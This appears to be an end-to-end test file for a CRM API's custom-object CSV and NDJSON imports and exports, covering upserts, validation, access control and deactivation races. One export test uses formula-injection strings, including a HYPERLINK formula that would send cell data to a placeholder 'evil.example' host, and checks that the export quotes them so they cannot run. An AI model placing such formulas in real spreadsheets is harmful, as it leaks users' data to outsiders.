import type { INestApplication } from '@nestjs/common';
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import type { DataSource } from 'typeorm';
import { createWebhook } from '#webhooks/webhooks.js';
import { bearer, newWorkspace, type TestWorkspace } from './factories.js';
import { waitUntil } from './processes.js';
import { cli, importErrors, importingApi, upload, waitForImport } from './import-helpers.js';
import { client, expectError, keyWithRole, type Client, type Http } from './rest-helpers.js';

const ticket = { nameSingular: 'ticket', namePlural: 'tickets', labelSingular: 'Ticket', labelPlural: 'Tickets' };
const project = { nameSingular: 'project', namePlural: 'projects', labelSingular: 'Project', labelPlural: 'Projects' };

/** A workspace's own objects in imports and exports (docs/rest.md "Imports", "Exports"), attacked as an outsider would. */
describe('custom objects: imports and exports', () => {
  let app: INestApplication;
  let ds: DataSource;
  let http: Http;

  beforeAll(async () => {
    ({ app, ds, http } = await importingApi());
  });
  afterAll(() => app.close());

  async function withTickets(label: string): Promise<{ ws: TestWorkspace; api: Client; objectId: string }> {
    const ws = await newWorkspace(ds, label);
    const api = client(http, ws.keys.Admin);
    const made = await api.post('/rest/metadata/objects', ticket);
    expect(made.status).toBe(201);
    for (const field of [
      { object: 'tickets', name: 'code', type: 'TEXT', isUnique: true },
      { object: 'tickets', name: 'priority', type: 'SELECT', options: [{ value: 'HIGH' }, { value: 'LOW' }] },
      { object: 'tickets', name: 'score', type: 'NUMBER' },
      { object: 'tickets', name: 'contact', type: 'EMAILS' },
    ])
      expect((await api.post('/rest/metadata/fields', field)).status).toBe(201);
    return { ws, api, objectId: made.body.data.createObject.id };
  }

  async function started(ws: TestWorkspace, query: string, body: string | Buffer, type = 'text/csv'): Promise<string> {
    const res = await upload(http, ws.keys.Admin, query, body, type);
    expect([res.status, res.text]).toEqual([202, expect.any(String)]);
    return res.body.data.import.id;
  }
  const rowsOf = async (ws: TestWorkspace, objectId: string) =>
    Number((await ds.query('SELECT count(*) AS n FROM custom_records WHERE workspace_id = $1 AND object_id = $2', [ws.id, objectId]))[0].n);

  it('imports CSV and NDJSON into a custom object, creates and upserts, and each record is that object’s', async () => {
    const { ws, api, objectId } = await withTickets('co-imp');
    // Another object of the same workspace: its records are never matched nor touched.
    await api.post('/rest/metadata/objects', project);
    const other = (await api.post('/rest/projects', { name: 'Apollo' })).body.data.createProject;
    await createWebhook(ds, ws.id, { url: 'https://hooks.example.com/in', operations: ['*.*'] }, { allowPrivate: false });

    const csv = [
      'name,code,priority,score,contact.primaryEmail',
      'Printer on fire,T-1,HIGH,3,ada@example.com',
      '"Coffee, again",T-2,LOW,,',
      'Bad priority,T-3,URGENT,,',
      'Same code,T-1,,,',
    ].join('\n');
    const first = await started(ws, '?object=tickets&events=records', csv);
    expect(await waitForImport(http, ws.keys.Admin, first)).toMatchObject({
      status: 'completed',
      object: 'tickets',
      rowsRead: 4,
      created: 2,
      failed: 2,
    });
    expect(await importErrors(http, ws.keys.Admin, first)).toEqual([
      { row: 3, line: 4, messages: [expect.stringMatching(/^priority must be one of/)] },
      { row: 4, line: 5, messages: [expect.stringMatching(/^code: another ticket already has this value/)] },
    ]);
    const list = await api.get('/rest/tickets', { order_by: 'code' });
    expect(list.body.totalCount).toBe(2);
    expect(list.body.data.tickets).toEqual([
      expect.objectContaining({
        name: 'Printer on fire',
        code: 'T-1',
        priority: 'HIGH',
        score: 3,
        contact: { primaryEmail: 'ada@example.com', additionalEmails: [] },
      }),
      expect.objectContaining({ name: 'Coffee, again', code: 'T-2', priority: 'LOW', score: null }),
    ]);
    expect(await rowsOf(ws, objectId)).toBe(2);

    const ndjson = [JSON.stringify({ name: 'VPN down', code: 'T-4' }), JSON.stringify({ name: 'x', nope: 1 }), '[1]'].join('\n');
    const second = await started(ws, '?object=tickets', ndjson, 'application/x-ndjson');
    expect(await waitForImport(http, ws.keys.Admin, second)).toMatchObject({ status: 'completed', created: 1, failed: 2 });
    expect(await importErrors(http, ws.keys.Admin, second)).toEqual([
      { row: 2, line: 2, messages: ['nope is not a known field'] },
      { row: 3, line: 3, messages: [expect.stringMatching(/must be a JSON object/)] },
    ]);

    // Upsert by the unique code: one changed, one the same, one new; the project's id is no ticket's (created under it, refused).
    const upsert = [
      'id,name,code,priority',
      ',Printer fixed,T-1,HIGH',
      ',"Coffee, again",T-2,LOW',
      ',Brand new,T-9,',
      `${other.id},Not a project,T-10,`,
    ].join('\n');
    const third = await started(ws, '?object=tickets&mode=upsert&events=records', upsert);
    expect(await waitForImport(http, ws.keys.Admin, third)).toMatchObject({
      status: 'completed',
      created: 1,
      updated: 1,
      unchanged: 1,
      failed: 1,
    });
    expect(await importErrors(http, ws.keys.Admin, third)).toEqual([
      { row: 4, line: 5, messages: ['a ticket with this id already exists'] },
    ]);
    const again = await started(ws, '?object=tickets&mode=upsert&match=code', upsert.split('\n').slice(0, 4).join('\n'));
    expect(await waitForImport(http, ws.keys.Admin, again)).toMatchObject({ created: 0, updated: 0, unchanged: 3, failed: 0 });
    expect((await api.get(`/rest/projects/${other.id}`)).body.data.project).toMatchObject({ name: 'Apollo' });
    expect((await api.get('/rest/projects')).body.totalCount).toBe(1);
    expect(await rowsOf(ws, objectId)).toBe(4);
    expect((await api.get('/rest/tickets', { filter: 'code[eq]:"T-1"' })).body.data.tickets[0].name).toBe('Printer fixed');

    // The per-record events name the object's own singular.
    const types: { type: string }[] = await ds.query(
      `SELECT type FROM webhook_events WHERE workspace_id = $1 AND type LIKE 'ticket.%' ORDER BY type`,
      [ws.id],
    );
    expect(types.map((t) => t.type)).toEqual(['ticket.created', 'ticket.created', 'ticket.created', 'ticket.updated']);
  });

  it("refuses another workspace's object, a deactivated one and a role without it, before anything is stored", async () => {
    const { ws, api, objectId } = await withTickets('co-imp-400');
    const theirs = await newWorkspace(ds, 'co-imp-theirs');
    expect((await client(http, theirs.keys.Admin).post('/rest/metadata/objects', project)).status).toBe(201);
    // Another workspace's object is unknown here, and the answer names only this workspace's objects.
    const foreign = expectError(await upload(http, ws.keys.Admin, '?object=projects', 'name\nX\n'), 400, 'VALIDATION_FAILED');
    expect(foreign).toMatch(/object must be one of companies, people, opportunities, tickets; got "projects"/);
    expect(expectError(await upload(http, ws.keys.Admin, '?object=tickets', 'name,budget\nX,1\n'), 400, 'VALIDATION_FAILED')).toMatch(
      /unknown column "budget": not a field of tickets/,
    );
    expectError(await upload(http, ws.keys.Admin, '?object=tickets&mode=upsert&match=priority', 'name\nX\n'), 400, 'VALIDATION_FAILED');
    expect(expectError(await upload(http, ws.keys.Viewer, '?object=tickets', 'name\nX\n'), 403, 'FORBIDDEN')).toMatch(/create on tickets/);
    const companiesOnly = await keyWithRole(ds, ws.id, 'Companies only', {
      companies: { read: true, create: true, update: true, delete: true },
    });
    expectError(await upload(http, companiesOnly.secret, '?object=tickets', 'name\nX\n'), 403, 'FORBIDDEN');
    expectError(await upload(http, undefined, '?object=tickets', 'name\nX\n'), 401, 'UNAUTHENTICATED');
    expect((await api.patch(`/rest/metadata/objects/${objectId}`, { isActive: false })).status).toBe(200);
    expect(expectError(await upload(http, ws.keys.Admin, '?object=tickets', 'name\nX\n'), 400, 'VALIDATION_FAILED')).toMatch(
      /object must be one of companies, people, opportunities; got "tickets"/,
    );
    expect(await ds.query('SELECT id FROM imports WHERE workspace_id = $1', [ws.id])).toEqual([]);
    expect(await rowsOf(ws, objectId)).toBe(0);
  });

  it('exports a custom object as CSV (formulas guarded, imported back as they were) and NDJSON, with fields=', async () => {
    const { ws, api } = await withTickets('co-exp');
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '@SUM(A1)', '-2', "'=already quoted"];
    for (const [i, name] of formulas.entries())
      expect((await api.post('/rest/tickets', { name, code: `F-${i}`, contact: { primaryEmail: `f${i}@example.com` } })).status).toBe(201);
    const csv = await api.get('/rest/tickets/export', { format: 'csv', fields: 'name,code' });
    expect(csv.status).toBe(200);
    expect(csv.text.trim().split('\n')).toEqual([
      'id,name,code',
      expect.stringMatching(/,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1\)",F-0$/),
      expect.stringMatching(/,'\+1\+1,F-1$/),
      expect.stringMatching(/,'@SUM\(A1\),F-2$/),
      expect.stringMatching(/,'-2,F-3$/),
      expect.stringMatching(/,''=already quoted,F-4$/),
    ]);
    const ndjson = await api.get('/rest/tickets/export', { format: 'ndjson', fields: 'name,contact' });
    expect(ndjson.status).toBe(200);
    const lines = ndjson.text
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => [l.name, l.contact.primaryEmail, 'code' in l])).toEqual(
      formulas.map((f, i) => [f, `f${i}@example.com`, false]),
    );
    // The CSV imported into another workspace's tickets gives the same names back.
    const { ws: copy, api: copyApi } = await withTickets('co-exp-copy');
    const back = await started(copy, '?object=tickets', csv.text);
    expect(await waitForImport(http, copy.keys.Admin, back)).toMatchObject({ status: 'completed', created: 5, failed: 0 });
    const names = (await copyApi.get('/rest/tickets', { order_by: 'code' })).body.data.tickets.map((t: { name: string }) => t.name);
    expect(names).toEqual(formulas);
    // A role without the object cannot export it; another workspace's object is missing.
    const companiesOnly = await keyWithRole(ds, ws.id, 'No tickets', {
      companies: { read: true, create: false, update: false, delete: false },
    });
    expectError(await client(http, companiesOnly.secret).get('/rest/tickets/export', { format: 'csv' }), 403, 'FORBIDDEN');
    const stranger = await newWorkspace(ds, 'co-exp-stranger');
    expectError(await client(http, stranger.keys.Admin).get('/rest/tickets/export', { format: 'csv' }), 404, 'NOT_FOUND');
  });

  it('CLI: `import --object tickets` imports into the workspace’s own object; another workspace’s object exits 1', async () => {
    const { ws, api } = await withTickets('co-imp-cli');
    const theirs = await newWorkspace(ds, 'co-imp-cli-theirs');
    await client(http, theirs.keys.Admin).post('/rest/metadata/objects', project);
    const file = join(tmpdir(), `co-imp-cli-${process.pid}.ndjson`);
    writeFileSync(file, [JSON.stringify({ name: 'From the CLI', code: 'C-1' }), JSON.stringify({ name: 'Two', code: 'C-2' })].join('\n'));
    const run = await cli(['import', '--workspace', ws.id, '--object', 'tickets', '--file', file, '--json']);
    expect([run.code, run.stderr]).toEqual([0, '']);
    expect(JSON.parse(run.stdout)).toMatchObject({ status: 'completed', object: 'tickets', created: 2, failed: 0 });
    expect((await api.get('/rest/tickets', { order_by: 'code' })).body.data.tickets.map((t: { name: string }) => t.name)).toEqual([
      'From the CLI',
      'Two',
    ]);
    const foreign = await cli(['import', '--workspace', ws.id, '--object', 'projects', '--file', file]);
    expect(foreign.code).toBe(1);
    expect(foreign.stderr).toMatch(/object must be one of companies, people, opportunities, tickets; got "projects"/);
  }, 180_000);

  it('an import whose object is deactivated during its upload ends failed at its run, naming why, and writes no record', async () => {
    const ws = await newWorkspace(ds, 'co-imp-gone');
    const api = client(http, ws.keys.Admin);
    const objectId = (await api.post('/rest/metadata/objects', ticket)).body.data.createObject.id;
    const answer = new Promise<request.Response>((done, fail) => {
      const req = request(http)
        .post('/rest/imports?object=tickets')
        .set(bearer(ws.keys.Admin))
        .set('Content-Type', 'text/csv')
        .ok(() => true);
      req.on('error', fail);
      // More than a chunk (1 MB): the upload is stored, and so visible, before its end is sent.
      req.write('name\n' + 'A ticket name\n'.repeat(90_000));
      void waitUntil(
        async () => (await ds.query('SELECT 1 FROM imports WHERE workspace_id = $1', [ws.id])).length > 0,
        20_000,
        () => 'the first chunk of the upload to be stored',
      )
        .then(() => api.patch(`/rest/metadata/objects/${objectId}`, { isActive: false }))
        .then((off) => {
          expect(off.status).toBe(200);
          req.end((err, res) => (err ? fail(err) : done(res)));
        }, fail);
    });
    const res = await answer;
    expect(res.status).toBe(202);
    const done = await waitForImport(http, ws.keys.Admin, res.body.data.import.id, 30_000);
    expect(done).toMatchObject({ status: 'failed', created: 0, error: expect.stringMatching(/tickets is not an active object/) });
    expect(await rowsOf(ws, objectId)).toBe(0);
  }, 60_000);

  it('an object deactivated while its import runs: the batch under way finishes, none after it is written, the import fails saying why', async () => {
    const ws = await newWorkspace(ds, 'co-imp-churn');
    const api = client(http, ws.keys.Admin);
    const objectId = (await api.post('/rest/metadata/objects', ticket)).body.data.createObject.id;
    const rows = 60_000;
    const id = await started(ws, '?object=tickets', 'name\n' + Array.from({ length: rows }, (_, i) => `Ticket ${i}`).join('\n'));
    const done = async () =>
      (await ds.query('SELECT rows_done FROM imports WHERE workspace_id = $1 AND id = $2', [ws.id, id]))[0].rows_done;
    await waitUntil(
      async () => Number(await done()) > 0,
      30_000,
      () => 'the first batch to commit',
    );
    // Waits for the batch under way (it holds the object's row for share), then hides the object.
    expect((await api.patch(`/rest/metadata/objects/${objectId}`, { isActive: false })).status).toBe(200);
    const ended = await waitForImport(http, ws.keys.Admin, id, 60_000);
    expect(ended).toMatchObject({ status: 'failed', error: expect.stringMatching(/tickets is not an active object/) });
    // Every row it counts is a record of the object, and none came after the deactivation.
    expect(ended.created).toBeLessThan(rows);
    expect(await rowsOf(ws, objectId)).toBe(ended.created);
    expect(Number(await done())).toBe(ended.created);
  }, 90_000);
});
